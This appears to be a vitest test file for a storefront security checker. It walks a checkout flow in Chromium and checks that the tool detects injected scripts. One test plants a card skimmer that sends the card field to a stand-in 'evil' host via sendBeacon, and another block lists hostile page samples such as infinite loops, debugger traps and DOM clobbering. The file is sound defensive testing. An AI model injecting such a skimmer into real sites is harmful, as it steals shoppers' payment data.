// SPDX-License-Identifier: Apache-2.0
// `storefront check` in a real Chromium: the way of a visitor by steps, and pages that do not want to be looked at.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import packed from '@sparticuz/chromium';
import { afterAll, describe, expect, test } from 'vitest';
import { ensuresec } from '../cli/terminal.ts';
import { FIELDS } from '../storefront/pages.ts';
import { useSites } from '../storefront/site.ts';

const sites = useSites('shop', 'evil');
const cwd = mkdtempSync(join(tmpdir(), 'walk-'));
afterAll(() => rmSync(cwd, { recursive: true }));
const WHO = ['--by', 'Ada', '--owner', 'Web team', '--reason', 'Takes payments'];

async function run(...argv: string[]) {
  const executable = process.env['ENSURESEC_CHROMIUM'] ?? (await packed.executablePath());
  const args = ['--browser', executable, '--browser-arg=--no-sandbox', '--browser-arg=--disable-gpu'];
  return ensuresec(['storefront', ...argv, ...args], { cwd });
}
const show = (path: string, body: string) => sites.shop.pages.set(path, { body });

describe('steps', () => {
  const STEPS = `steps:
  - { click: 'text=To the checkout' }
  - { wait: '#pay' }
  - { fill: '#card-number', with: card-number }
  - { select: '#country', with: GR }
  - { look: true }
  - { click: '#pay' }
  - { wait: 'text=Paid' }
`;
  const checkout = (script = '') =>
    `<h1>Pay</h1><form action="/paid" method="post">${FIELDS}<select id="country" name="country"><option>DE<option>GR</select><button id="pay">Pay</button></form>${script}`;

  test('lead to the page, and what leaves at the end counts', { timeout: 60_000 }, async () => {
    writeFileSync(join(cwd, 'way.yaml'), STEPS);
    show('/cart', '<h1>Cart</h1><a href="/checkout">To the checkout</a>');
    show('/checkout', checkout());
    show('/paid', '<p>Paid</p>');
    const way = [`${sites.shop.origin}/cart`, '--page', 'way', '--steps', 'way.yaml'];
    expect((await run('approve', ...way, ...WHO, '--known')).code).toBe(0);
    const { pages } = JSON.parse(readFileSync(join(cwd, 'storefront/inventory.json'), 'utf8'));
    expect(pages[0]).toMatchObject({
      id: 'way',
      steps: 'way.yaml',
      secretHosts: [sites.shop.origin.slice(7)],
    });
    expect((await run('check', 'way')).code).toBe(0);
    const skimmer = `document.forms[0].onsubmit=()=>navigator.sendBeacon('${sites.evil.origin}/c',document.forms[0].card.value)`;
    show('/checkout', checkout(`<script>${skimmer}</script>`));
    const { code, stdout } = await run('check', 'way', '--json');
    const kinds = JSON.parse(stdout).checks[0].findings.map(({ kind }: { kind: string }) => kind);
    expect([code, kinds]).toEqual([1, expect.arrayContaining(['data-leaves', 'listener', 'new-script'])]);
  });

  test('that do not work are told, and so are files that are no steps', { timeout: 60_000 }, async () => {
    show('/checkout', '<h1>Sold out</h1>');
    writeFileSync(join(cwd, 'lost.yaml'), 'steps: [{ press: Enter }, { press: NoSuchKey }]');
    const { code, stdout } = await run('check', `${sites.shop.origin}/checkout`, '--steps', 'lost.yaml');
    expect([code, stdout]).toEqual([1, expect.stringContaining('The look was not complete')]);
    writeFileSync(join(cwd, 'bad.yaml'), 'steps:\n  - { clack: x }\n  - { wait: -1 }\n');
    const bad = await run('check', `${sites.shop.origin}/checkout`, '--steps', 'bad.yaml');
    expect([bad.code, bad.stderr]).toEqual([3, expect.stringContaining('bad.yaml:2')]);
    expect(bad.stderr).toContain('bad.yaml:3');
  });
});

describe('a hostile page', () => {
  test.each([
    ['that never ends', '<script>for(;;);</script>', 6],
    ['that stops in the debugger', '<script>setInterval(()=>{debugger},10)</script>', 1],
    ['of dialogs', '<script>alert(1);confirm(2);onbeforeunload=()=>1</script>', 1],
    [
      'with controls named as methods',
      `<form action="/a"><input name="getAttribute"><input name="matches"><input name="shadowRoot"></form><img name="querySelectorAll"><img name="baseURI">`,
      1,
    ],
    [
      'that breaks what it can',
      '<script>JSON.parse=JSON.stringify=Array.prototype.map=()=>{throw 1};Document.prototype.querySelectorAll=null</script>',
      1,
    ],
    ['of two thousand scripts', `${'<script>1</script>'.repeat(2_000)}`, 1],
    ['that goes on and on', '<script>setTimeout(()=>location.reload(),5)</script>', 'any'],
  ])('%s is judged or given up in time', { timeout: 60_000 }, async (_, body, expected) => {
    show('/hostile', body);
    const start = Date.now();
    const { code, stderr } = await run('check', `${sites.shop.origin}/hostile`, '--timeout', '12', '--json');
    expect(Date.now() - start).toBeLessThan(50_000);
    if (expected === 'any') expect([1, 5, 6]).toContain(code);
    else expect([code, stderr.slice(0, 200)]).toEqual([expected, expect.any(String)]);
  });
});
